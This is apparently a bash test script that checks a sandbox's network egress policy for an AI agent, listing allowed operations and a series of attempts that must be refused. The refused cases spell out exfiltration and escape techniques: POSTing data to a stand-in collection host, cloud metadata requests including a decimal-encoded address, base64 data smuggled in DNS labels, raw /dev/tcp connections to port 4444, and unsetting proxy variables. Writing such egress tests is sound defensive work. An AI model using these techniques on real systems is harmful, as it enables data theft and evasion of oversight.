#!/bin/bash
# job - what an agent does all day, and what it must not do; in the sandbox.
#
# Each line says what was tried and how it ended.  The exit code counts the
# attempts that ended otherwise than they should.
#
# From outside: ORIGIN (https://git.example.test:PORT), CLEAR (the clear
# port), HAVE_NPM, HAVE_APT and what they need.
set -u
wrong=0
here=$(dirname "$0")

tell() {
	printf '  %-9s %s\n' "$1" "$2"
}

# goes NAME COMMAND...		must work
goes() {
	name=$1
	shift
	if "$@" >out.txt 2>&1; then
		tell allowed "$name"
	else
		tell WRONG "$name: $(tail -n 1 out.txt)"
		wrong=$((wrong + 1))
	fi
}

# refused NAME COMMAND...	must not work
refused() {
	name=$1
	shift
	if "$@" >out.txt 2>&1; then
		tell WRONG "$name: it was let through"
		wrong=$((wrong + 1))
	else
		tell refused "$name: $(tail -n 1 out.txt | cut -c 1-90)"
	fi
}

# page NAME URL...	must be a page that says which policy refused it
page() {
	name=$1
	shift
	status=$(curl -sS -o out.txt -w '%{http_code}' --max-time 20 "$@" \
		2>err.txt)
	if [ "$status" = 403 ] && grep -q '"reason"' out.txt; then
		reason=$(python3 -I -c 'import json
print(json.load(open("out.txt"))["detail"])')
		tell refused "$name: 403, $reason"
	else
		tell WRONG "$name: status $status $(tail -n 1 err.txt)"
		wrong=$((wrong + 1))
	fi
}

raw() {
	timeout 10 bash -c "exec 3<>/dev/tcp/$1/$2 && echo x >&3 && read -r -t 5 line <&3"
}

apt_index() {
	/usr/lib/apt/apt-helper download-file "$APT_URI/dists/$APT_SUITE/InRelease" \
		InRelease && grep -q '^SHA256' InRelease
}

npm_install() (
	mkdir -p project && cd project && npm init -y && npm install left-pad &&
		node -e 'require("left-pad")'
)

echo 'What the policy allows:'
goes 'git clone over HTTPS from the origin' \
	git clone -q "$ORIGIN/git/demo.git" demo
goes 'a page of the origin by curl' \
	curl -sSf --max-time 20 "$ORIGIN/hello.txt"
goes 'the same from Python' \
	python3 -I "$here/sockets.py" get "$ORIGIN/hello.txt"
goes 'the same in clear text' \
	curl -sSf --max-time 20 "http://git.example.test:$CLEAR/hello.txt"
if command -v node >/dev/null; then
	goes 'the same from node' \
		node "$here/sockets.js" get "$ORIGIN/hello.txt"
fi
if [ "${HAVE_NPM:-}" = 1 ]; then
	goes 'npm view of a small package' npm view left-pad version
	goes 'npm install of it' npm_install
else
	tell skipped 'npm: its registry does not answer on this machine'
fi
if [ "${HAVE_APT:-}" = 1 ]; then
	goes "apt's own client for an index of the mirror" apt_index
else
	tell skipped 'apt: its mirror does not answer on this machine'
fi

echo
echo 'What it does not:'
page 'POST to a host that may be read' -d data "$ORIGIN/echo"
refused 'POST to a host no rule allows' \
	curl -sSf --max-time 20 -d data https://collect.example.net/
refused 'POST to it in clear text' \
	curl -sSf --max-time 20 -d data http://collect.example.net/
refused 'the metadata address' \
	curl -sSf --max-time 20 http://169.254.169.254/latest/meta-data/
refused 'the metadata address, spelled as one number' \
	curl -sSf --max-time 20 http://2852039166/latest/meta-data/
refused 'a name with data in its labels' \
	getent ahosts aHR0cHM6Ly9zZWNyZXQ.dGhlIGtleQ.collect.example.net
refused 'the same with the name of an allowed host in it' \
	getent ahosts git.example.test.collect.example.net
refused 'a raw TCP connection to an arbitrary address' \
	raw 203.0.113.7 4444
refused 'the same over IPv6' raw 2001:db8::7 4444
refused 'an allowed port of an arbitrary address' raw 203.0.113.7 443
refused 'TLS to an address, without a name' \
	curl -sSfk --max-time 20 https://203.0.113.7/
refused 'another port of the allowed host' \
	curl -sSf --max-time 20 https://git.example.test:9/
refused 'a loopback service of the machine outside' \
	raw 127.0.0.1 "$CLEAR"

echo
echo 'The same with every proxy variable unset, from sockets:'
for name in $(env | sed -n 's/^\([A-Za-z_]*_[Pp][Rr][Oo][Xx][Yy]\)=.*/\1/p'); do
	unset "$name"
done
refused 'Python: the metadata address' \
	python3 -I "$here/sockets.py" tcp 169.254.169.254 80
refused 'Python: an arbitrary address' \
	python3 -I "$here/sockets.py" tcp 203.0.113.7 4444
refused 'Python: a host no rule allows' \
	python3 -I "$here/sockets.py" tcp collect.example.net 443
refused 'Python: a datagram' \
	python3 -I "$here/sockets.py" udp 203.0.113.7 4444
refused 'Python: a datagram to a resolver of its own choice' \
	python3 -I "$here/sockets.py" dns 203.0.113.53
if command -v node >/dev/null; then
	refused 'node: the metadata address' \
		node "$here/sockets.js" tcp 169.254.169.254 80
	refused 'node: an arbitrary address' \
		node "$here/sockets.js" tcp 203.0.113.7 4444
	refused 'node: a host no rule allows' \
		node "$here/sockets.js" get https://collect.example.net/
fi

exit "$wrong"
